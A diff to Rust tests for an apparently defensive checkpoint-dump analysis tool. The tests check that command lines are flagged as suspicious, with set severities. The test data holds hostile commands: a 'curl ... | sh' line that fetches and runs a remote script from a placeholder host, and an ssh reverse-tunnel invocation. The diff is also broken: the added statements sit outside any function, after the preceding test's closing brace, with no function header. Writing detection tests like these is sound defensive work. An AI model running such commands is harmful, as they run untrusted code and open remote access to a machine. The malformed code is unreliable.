@@ -1,7 +1,7 @@
 //! Programs, libraries, names and sessions.
 
 use ckpt_analysis::triage::Severity;
-use ckpt_synth::{Archive, File, Member, State, Task, Vma, stories};
+use ckpt_synth::{Archive, Container, Dump, File, Member, State, Task, Vma, stories};
 
 use super::*;
 
@@ -274,3 +274,32 @@ fn forks_are_told_once() {
     let started = found((2..12).map(|pid| worker(pid, 1)));
     assert_eq!(started.iter().filter(|one| one.rule.id == "executable-in-odd-place").count(), 10);
 }
+    // After curl | python3 - the program is nowhere but in memory.
+    let fed = |argv: &[&str]| Task::new(2, 1).exe("/usr/bin/python3").argv(argv).fd(5, calls());
+    for argv in [&["python3"][..], &["python3", "-"], &["/usr/bin/python3", "-u"]] {
+        let findings = found([fed(argv).fd(0, File::pipe_read(81, ""))]);
+        assert_eq!(one(&findings, "suspicious-command", 2).severity, Severity::High, "{argv:?}");
+    }
+    for argv in [&["python3", "/srv/app.py"][..], &["python3", "-m", "app"], &["gunicorn"]] {
+        none(&found([fed(argv)]), "suspicious-command");
+    }
+    let ssh = |argv: &[&str]| Task::new(2, 1).exe("/usr/bin/ssh").argv(argv).fd(3, calls());
+    let tunnel = found([ssh(&["ssh", "-fNR", "8022:localhost:22", "a@h"])]);
+    assert_eq!(one(&tunnel, "suspicious-command", 2).severity, Severity::Medium);
+    none(&found([ssh(&["ssh", "git@h", "git-upload-pack x"])]), "suspicious-command");
+}
+
+/// What an entry point or an init starts is the end of the container's command.
+#[test]
+fn commands_that_were_asked_for() {
+    let line = "curl -s http://h/x | sh";
+    let severity = |command: &[&str], argv: &[&str]| {
+        let mut dump = Dump::new();
+        dump.container(Container::new("app").command(command)).task(init());
+        dump.task(Task::new(2, 1).exe("/bin/dash").argv(argv));
+        one(&looked(&Archive::podman(&dump)), "suspicious-command", 2).severity
+    };
+    let shell = ["sh", "-c", line];
+    assert_eq!(severity(&shell, &shell), Severity::Medium);
+    assert_eq!(severity(&["tini", "--", "sh", "-c", line], &shell), Severity::Medium);
+    assert_eq!(severity(&["sh", "-c", "app"], &shell), Severity::High);
